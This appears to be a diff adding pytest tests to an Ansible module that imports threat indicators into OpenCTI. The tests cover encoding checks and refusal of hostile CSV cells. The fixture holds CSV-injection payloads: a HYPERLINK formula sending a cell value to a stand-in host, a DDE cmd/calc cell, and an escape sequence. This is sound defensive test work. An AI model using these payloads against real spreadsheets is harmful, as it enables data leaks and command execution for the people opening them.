@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import datetime
+import json
 import textwrap
 
 import pytest
+import requests
 from ansible.module_utils import basic
 from ansible_collections.vigil.monitoring.plugins.module_utils import opencti
 from ansible_collections.vigil.monitoring.plugins.modules import opencti_indicator_import
@@ -221,7 +223,9 @@ def test_malformed_rows_are_reported_and_valid_rows_imported(run_module, cti, wa
     assert "not a MD5 hash (32 hexadecimal characters)" in errors[7]
     assert "'not a url' is not a valid URL" in errors[8]
     assert result["summary"]["errors"] == 6 and result["summary"]["created_indicators"] == 2
-    assert any(w.startswith("line 3 (ip 10.0.0.300):") for w in warnings)
+    assert len(warnings) == 1
+    assert warnings[0].startswith("6 row(s) not imported, listed in 'errors'; line 3 (ip 10.0.0.300):")
+    assert "(and 1 more)" in warnings[0]
 
 
 @needs_pycti
@@ -286,6 +290,7 @@ def test_tls_verification_is_on_by_default_and_uses_ca_path(monkeypatch):
     class Client:
         def __init__(self, url, token, **kwargs):
             seen.update(kwargs)
+            self.session = requests.Session()
 
         def query(self, _query):
             return {"data": {"about": {"version": "7.261026.0"}}}
@@ -297,6 +302,18 @@ def test_tls_verification_is_on_by_default_and_uses_ca_path(monkeypatch):
     assert seen["ssl_verify"] is True and seen["perform_health_check"] is False
     opencti.connect(dict(base, ca_path="/etc/vigil/tls/ca.crt"))
     assert seen["ssl_verify"] == "/etc/vigil/tls/ca.crt"
+
+
+def test_connect_refuses_a_pycti_without_the_session_it_must_guard(monkeypatch):
+    class Client:
+        def __init__(self, url, token, **kwargs):
+            pass
+
+    monkeypatch.setattr(opencti, "OpenCTIApiClient", Client)
+    base = {"url": "https://cti.example.org", "api_token": "t", "validate_certs": True, "ca_path": None,
+            "client_cert": None, "client_key": None, "timeout": 30, "retries": 0, "retry_delay": 0}
+    with pytest.raises(opencti.OpenCTIError, match="has no requests session"):
+        opencti.connect(base)
 
 
 @needs_pycti
@@ -404,3 +421,71 @@ def test_network_ranges_and_bad_domains_are_refused():
     with pytest.raises(opencti.RowError, match="not a valid domain"):
         opencti.check_domain("localhost")
     assert opencti.check_domain("bücher.example.") == "xn--bcher-kva.example"
+
+
+# --------------------------------------------------------------------------- hostile files (issue 13)
+
+
+@needs_pycti
+def test_a_latin1_file_is_refused_before_anything_is_sent(run_module, cti, tmp_path):
+    path = tmp_path / "iocs.csv"
+    path.write_bytes("type,value,labels\nip,198.51.100.7,réseau\n".encode("latin-1"))
+    arguments = args(cti, path=str(path))
+    del arguments["content"]
+
+    result = fail(run_module, arguments)
+
+    assert "is not UTF-8 text: byte 0xe9 at line 2, column 18" in result["msg"]
+    assert "CSV UTF-8" in result["msg"] and "nothing was imported" in result["msg"]
+    assert cti.requests == []
+
+
+@needs_pycti
+def test_content_decoded_from_another_encoding_is_refused(run_module, cti):
+    result = fail(run_module, args(cti, content="type,value,labels\nip,198.51.100.7,r\ufffdseau\n"))
+    assert "content is not clean UTF-8 text: U+FFFD" in result["msg"] and "line 2, column 18" in result["msg"]
+    assert cti.requests == []
+
+
+FORMULAS = textwrap.dedent("""\
+    type,value,score,labels,incident_ref,valid_until,description
+    url,=HYPERLINK("http://evil.example/?"&A1),50,,,,
+    ip,198.51.100.10,50,,,,=cmd|' /C calc'!A0
+    ip,198.51.100.11,50,c2;@SUM(1+1),,,
+    ip,198.51.100.12,+50,,,,
+    ip,198.51.100.13,50,,-INC-1,,
+    domain,ok.example.net,50,c2,INC-1,,Seen on the proxy - twice
+    ip,198.51.100.14,50,,,,"\tstarts with a tab"
+    ip,198.51.100.15,50,,,,"\x1b[2J clears the screen"
+    """)
+
+
+@needs_pycti
+def test_formula_like_cells_are_refused_row_by_row(run_module, cti, warnings):
+    result = run(run_module, args(cti, content=FORMULAS))
+
+    errors = {e["line"]: e["error"] for e in result["errors"]}
+    assert sorted(errors) == [2, 3, 4, 5, 6, 8, 9]
+    assert "value '=HYPERLINK(" in errors[2] and "runs as a formula (CSV injection)" in errors[2]
+    assert "description '=cmd|' /C calc'!A0' starts with '='" in errors[3]
+    assert "labels 'c2;@SUM(1+1)' starts with '@'" in errors[4]
+    assert "score '+50' starts with '+'" in errors[5]
+    assert "incident_ref '-INC-1' starts with '-'" in errors[6]
+    assert "starts with '\\t'" in errors[8]
+    assert "contains the control character '\\x1b'" in errors[9]
+    # Nothing of the refused rows reached OpenCTI, the clean row did (a '-' inside a text is fine).
+    assert [i["name"] for i in cti.indicators.values()] == ["ok.example.net"]
+    sent = json.dumps([r.body for r in cti.requests])
+    for fragment in ("HYPERLINK", "calc", "SUM(", "-INC-1", "starts with a tab", "clears the screen"):
+        assert fragment not in sent
+    assert "\\u001b" not in warnings[0] and "\x1b" not in warnings[0]
+
+
+@needs_pycti
+def test_twenty_thousand_bad_rows_make_one_warning(run_module, cti, warnings):
+    content = "type,value\n" + "".join("ip,not-an-address-%d\n" % i for i in range(20000))
+    result = run(run_module, args(cti, content=content))
+    assert result["summary"]["errors"] == 20000
+    assert len(warnings) == 1 and warnings[0].startswith("20000 row(s) not imported")
+    assert warnings[0].count("line ") == 5 and "(and 19995 more)" in warnings[0]
+    assert len(warnings[0]) < 2000
